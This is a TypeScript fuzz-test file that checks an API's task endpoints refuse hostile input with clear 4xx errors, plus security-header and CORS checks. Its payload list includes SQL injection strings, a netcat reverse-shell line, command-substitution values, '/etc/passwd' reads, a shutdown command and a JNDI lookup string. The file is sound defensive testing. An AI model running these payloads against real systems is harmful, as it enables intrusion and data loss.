import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { ApiClient, testEnv } from '@walbridge/testing';

const admin = new ApiClient();
let authorization: string;

const STACK_TRACE = /\n\s+at |\.(ts|js):\d+|node_modules|\/src\//;

interface Answer {
  status: number;
  text: string;
  headers: Headers;
}

async function send(method: string, path: string, options: { body?: string; contentType?: string; headers?: Record<string, string> } = {}): Promise<Answer> {
  // A kept-alive socket the server closed after an early answer (413, 415, 431 before the body was
  // read) fails the next request once; a crashed or hung api fails the second try too.
  return sendOnce(method, path, options).catch(() => sendOnce(method, path, options));
}

async function sendOnce(method: string, path: string, options: { body?: string; contentType?: string; headers?: Record<string, string> }): Promise<Answer> {
  const res = await fetch(`${testEnv.apiUrl}${path}`, {
    method,
    headers: { authorization, ...(options.contentType ? { 'content-type': options.contentType } : {}), ...options.headers },
    body: options.body,
    signal: AbortSignal.timeout(30_000),
  }).catch((error: Error & { cause?: { code?: string; message?: string } }) => {
    // "fetch failed" alone says nothing: name the socket error and the request that met it.
    throw new Error(`${method} ${path.slice(0, 120)} (${path.length} chars, body ${options.body?.length ?? 0} chars, ${options.contentType ?? 'no type'}): ${error.message}: ${error.cause?.code ?? ''} ${error.cause?.message ?? ''}`);
  });
  return { status: res.status, text: await res.text(), headers: res.headers };
}

/** A refusal the user can act on: the error body, never a stack trace, never a 5xx. */
function expectHelpfulRefusal(answer: Answer, what: string): void {
  expect(answer.status, `${what} → ${answer.status} ${answer.text.slice(0, 300)}`).toBeLessThan(500);
  expect(answer.text, what).not.toMatch(STACK_TRACE);
  if (answer.status < 400) return;
  let body: { statusCode: number; message: unknown; details: { field: unknown; message: unknown }[] };
  try {
    body = JSON.parse(answer.text);
  } catch {
    throw new Error(`${what} → ${answer.status} without an error body: ${JSON.stringify(answer.text.slice(0, 200))}`);
  }
  expect(body.statusCode, what).toBe(answer.status);
  expect(typeof body.message, what).toBe('string');
  expect(Array.isArray(body.details), what).toBe(true);
  if (answer.status === 400) {
    expect(body.details.length, what).toBeGreaterThan(0);
    for (const d of body.details) expect([typeof d.field, typeof d.message], what).toEqual(['string', 'string']);
  }
}

const VALID_TASK = {
  name: 'fuzz-task',
  description: 'fuzzing',
  source: { host: '127.0.0.1', port: 5432, database: 'demo', username: 'demo', password: 'not-used', sslMode: 'disable' },
  destination: { brokers: '127.0.0.1:9092', securityProtocol: 'PLAINTEXT' },
  policy: {
    dmlOperations: ['INSERT'],
    objectScope: 'tables',
    tables: [{ schema: 'shop', table: 'orders', filter: 'id > 1' }],
    topicPolicy: { mode: 'specific', topic: 'fuzz' },
    partitionPolicy: 'table',
  },
  start: { mode: 'now' },
  retry: { connectionMinutes: 720, otherMinutes: 10 },
};

function leafPaths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (value !== null && typeof value === 'object') {
    return Object.entries(value).flatMap(([k, v]) => leafPaths(v, [...prefix, Array.isArray(value) ? Number(k) : k]));
  }
  return [prefix];
}

function withValueAt(base: unknown, path: (string | number)[], value: unknown): unknown {
  const copy = structuredClone(base) as Record<string | number, unknown>;
  let node = copy;
  for (const step of path.slice(0, -1)) node = node[step] as Record<string | number, unknown>;
  node[path[path.length - 1]] = value;
  return copy;
}

const SQL_AND_SHELL = [
  "'; DROP TABLE task; --",
  '" OR ""="',
  "1' OR '1'='1",
  'orders; DELETE FROM shop.orders',
  '$(touch /tmp/walbridge-pwned)',
  '`touch /tmp/walbridge-pwned`',
  '; cat /etc/passwd',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '&& shutdown -h now',
  '../../../../etc/passwd',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '%00',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff lone',
  '\u202eevil',
  'Ωmega 漢字 🙂 \u0301',
  '\r\n\r\nX-Injected: 1',
  '\\',
  '',
  ' ',
  'NaN',
  '-1',
  '1e309',
];

const fuzzString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SQL_AND_SHELL) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer({ min: 300, max: 200_000 }).map((n) => 'ÿ'.repeat(n)) },
);

const fuzzValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: fuzzString },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null)) },
  { weight: 1, arbitrary: fc.array(fuzzString, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(fuzzString, fuzzString, { maxKeys: 3 }) },
);

const leaves = leafPaths(VALID_TASK);

const body = fc.oneof(
  // A task with one to three fields replaced by something hostile.
  { weight: 5, arbitrary: fc.array(fc.tuple(fc.constantFrom(...leaves), fuzzValue), { minLength: 1, maxLength: 3 }).map((edits) => JSON.stringify(edits.reduce((acc, [p, v]) => withValueAt(acc, p, v), VALID_TASK as unknown))) },
  { weight: 2, arbitrary: fc.jsonValue().map((v) => JSON.stringify(v)) },
  { weight: 2, arbitrary: fc.oneof(fc.string({ unit: 'binary', maxLength: 80 }), fc.constantFrom('{', '{"name":', '[1,2', '{"name":"x",}', 'nul', '{"a":1}{"b":2}', '\u0000', '{"__proto__":{"admin":true}}')) },
  { weight: 1, arbitrary: fc.constantFrom(JSON.stringify({ name: 'x'.repeat(1_200_000) }), `[${'1,'.repeat(400_000)}1]`) },
);

/** Percent-encodes the UTF-8 bytes (a lone surrogate goes out as U+FFFD, as a browser sends it). */
const percentEncoded = (s: string) => [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');

const pathParam = fc.oneof(
  fc.uuid(),
  fuzzString.map((s) => percentEncoded(s.slice(0, 2000))),
  fc.constantFrom('%', '%E0%A4%A', '%ZZ', '..%2F..%2Fhealth', '%2e%2e', '%00', 'null', '-1'),
);

const queryString = fc.oneof(
  fc.dictionary(fc.constantFrom('status', 'q', 'page', 'pageSize', 'level', 'cursor', 'target', 'from', 'to'), fuzzString.map((s) => s.slice(0, 5000)), { maxKeys: 4 }).map((q) => new URLSearchParams(q).toString()),
  fc.constantFrom('q=%', 'page=%E0%A4%A', 'status[]=x&status[]=y', 'page[$gt]=1', 'q[a][b]=1', 'pageSize=1e9', 'page=0x10', 'q=%00'),
);

const contentType = fc.constantFrom('application/json', 'application/json', 'application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=latin1', 'application/xml');

describe('hostile input at the task endpoints', () => {
  let taskRoutes: { method: string; path: string }[];

  beforeAll(async () => {
    authorization = (await admin.authorization())!;
    const doc = await admin.request<{ paths: Record<string, Record<string, unknown>> }>('GET', '/api/docs-json');
    taskRoutes = Object.entries(doc.body.paths)
      .filter(([path]) => path.startsWith('/api/v1/tasks'))
      .flatMap(([path, item]) => ['get', 'post', 'put', 'patch', 'delete'].filter((m) => item[m]).map((m) => ({ method: m.toUpperCase(), path })));
  });

  it('always answers a 4xx with details, never a 5xx or a stack trace, and keeps serving', async () => {
    expect(taskRoutes.length).toBeGreaterThanOrEqual(6);
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...taskRoutes), pathParam, queryString, body, contentType, async (route, param, query, payload, type) => {
        // Events streams are long-lived: their validation is exercised through a random id only.
        const path = `${route.path.replace(/\{[^}]+\}/g, () => param)}${query ? `?${query}` : ''}`;
        const hasBody = route.method !== 'GET' && route.method !== 'DELETE';
        const answer = await send(route.method, path, hasBody ? { body: payload, contentType: type } : {});
        expectHelpfulRefusal(answer, `${route.method} ${path.slice(0, 200)} ${hasBody ? payload.slice(0, 200) : ''}`);
      }),
      { numRuns: Number(process.env.WALBRIDGE_FUZZ_RUNS ?? 400), includeErrorInReport: true, seed: Number(process.env.WALBRIDGE_FUZZ_SEED ?? Date.now() % 2 ** 31), endOnFailure: true },
    );
    expect((await send('GET', '/health')).status).toBe(200);
    expect((await send('GET', '/api/v1/tasks')).status).toBe(200);
  }, 300_000);

  it('refuses a body over 1 MB with 413, naming the body', async () => {
    const answer = await send('POST', '/api/v1/tasks', { body: JSON.stringify({ ...VALID_TASK, description: 'x'.repeat(1_100_000) }), contentType: 'application/json' });
    expect(answer.status).toBe(413);
    expect(JSON.parse(answer.text)).toMatchObject({ message: 'request body too large', details: [{ field: '(body)' }] });
  });

  it('names the field holding a character PostgreSQL cannot store', async () => {
    const answer = await send('POST', '/api/v1/tasks', { body: JSON.stringify({ ...VALID_TASK, source: { ...VALID_TASK.source, host: 'db\u0000.local' } }), contentType: 'application/json' });
    expect(answer.status).toBe(400);
    expect(JSON.parse(answer.text).details).toContainEqual({ field: 'source.host', message: expect.stringMatching(/NUL/) });
  });
});

describe('security headers and cross-origin calls', () => {
  it('sends security headers with the console page and API answers alike', async () => {
    for (const path of ['/', '/tasks', '/api/v1/tasks', '/health']) {
      const res = await fetch(`${testEnv.apiUrl}${path}`);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("script-src 'self'");
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(csp, path).toContain("object-src 'none'");
      expect(res.headers.get('x-frame-options'), path).toBe('DENY');
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('referrer-policy'), path).toBe('no-referrer');
      expect(res.headers.get('x-powered-by'), path).toBeNull();
    }
    const page = await fetch(`${testEnv.apiUrl}/`);
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toMatch(/text\/html/);
  });

  it('grants no other origin: no CORS headers, preflight or not', async () => {
    const preflight = await fetch(`${testEnv.apiUrl}/api/v1/tasks`, {
      method: 'OPTIONS',
      headers: { origin: 'https://evil.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'authorization,content-type' },
    });
    expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
    expect(preflight.headers.get('access-control-allow-credentials')).toBeNull();
    const simple = await fetch(`${testEnv.apiUrl}/api/v1/auth/login`, { method: 'POST', headers: { origin: 'https://evil.example', 'content-type': 'application/json' }, body: '{}' });
    expect(simple.headers.get('access-control-allow-origin')).toBeNull();
  });
});
